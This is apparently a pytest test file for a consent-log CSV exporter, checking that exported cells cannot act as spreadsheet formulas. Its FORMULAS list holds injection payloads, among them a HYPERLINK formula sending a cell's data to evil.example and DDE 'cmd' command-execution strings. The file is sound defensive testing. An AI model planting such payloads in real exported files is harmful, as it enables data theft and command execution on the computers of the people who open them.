"""The consent log as CSV: every text survives, and none of it runs in a spreadsheet."""

from __future__ import annotations

import csv
import io
import itertools

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from commentsvc.exchange.consent_csv import safe_cell, write_consent_csv
from commentsvc.exchange.consent_row import COLUMNS, ConsentRow

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1dHYPERLINK(1)",
    "\uff0bcmd",
    "\uff0d1",
    "\uff20SUM(A1)",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
]


def row(**changes):
    return ConsentRow(**({"record": "r-1", "kind": "consent", "state": "given", "commitment": "ab" * 32} | changes))


def parsed(rows, **dialect):
    text = b"".join(write_consent_csv(rows)).decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), **dialect))


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_cell_begins_with_what_a_spreadsheet_takes_for_a_formula(payload):
    cell = parsed([row(page=payload)])[1][COLUMNS.index("page")]

    assert cell == "'" + payload or cell.startswith("'")
    assert cell.replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize("payload", ["a;=1+1", "a\t=1+1", "a\n@SUM(1)", "a\r\n+1", "a; =1+1", "a;\uff1d1"])
@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_no_formula_appears_when_the_spreadsheet_splits_at_another_separator(payload, delimiter):
    text = b"".join(write_consent_csv([row(page=payload)])).decode()

    for line in text.replace("\r", "\n").split("\n"):
        for cell in line.split(delimiter):
            assert cell.lstrip(' "')[:1] not in set("=+-@\uff1d"), (cell, line)


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_workbook_made_from_the_cells_holds_text_and_no_formula(payload):
    if "\x00" in payload:
        payload = payload.replace("\x00", "")  # the xlsx format itself refuses NUL
    sheet = openpyxl.Workbook().active
    for line in parsed([row(purpose_text=payload)]):
        sheet.append(line)

    assert {cell.data_type for line in sheet.iter_rows() for cell in line} <= {"s", "n"}
    assert all(cell.value is None for line in sheet.iter_rows() for cell in line if cell.data_type == "n")


@pytest.mark.parametrize(
    "text", ["plain", "a, b", 'say "yes"', "two\nlines", "a-b=c", "\u202eabc", "Zoë 👩\u200d🚀", "5 - 3"]
)
def test_harmless_text_comes_back_as_it_was(text):
    assert parsed([row(purpose_text=text)])[1][COLUMNS.index("purpose_text")] == text


def test_numbers_stay_numbers_and_nothing_stays_empty():
    cells = dict(zip(COLUMNS, parsed([row(log_index=0, notice_version=3)])[1], strict=True))

    assert (cells["log_index"], cells["notice_version"], cells["withdrawn_at"]) == ("0", "3", "")


def test_the_file_has_a_header_and_crlf_lines():
    data = b"".join(write_consent_csv([row(), row()]))

    assert data.startswith(",".join(COLUMNS).encode() + b"\r\n")
    assert data.endswith(b"\r\n")
    assert data.count(b"\r\n") == 3 == data.count(b"\n")


def test_an_empty_log_is_a_header():
    assert parsed([]) == [list(COLUMNS)]


def test_rows_are_taken_one_after_the_other_while_chunks_leave():
    taken = itertools.count()
    chunks = write_consent_csv(row(record=str(next(taken))) for _ in range(100_000))

    next(chunks)

    assert next(taken) < 1_000


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_any_text_reads_back_with_only_apostrophes_added(text):
    cell = safe_cell(text)

    assert cell.replace("'", "") == text.replace("'", "")
    assert cell.strip()[:1] not in set("=+-@\uff1d\uff0b\uff0d\uff20")
    assert parsed([row(page=text)])[1][COLUMNS.index("page")] == cell
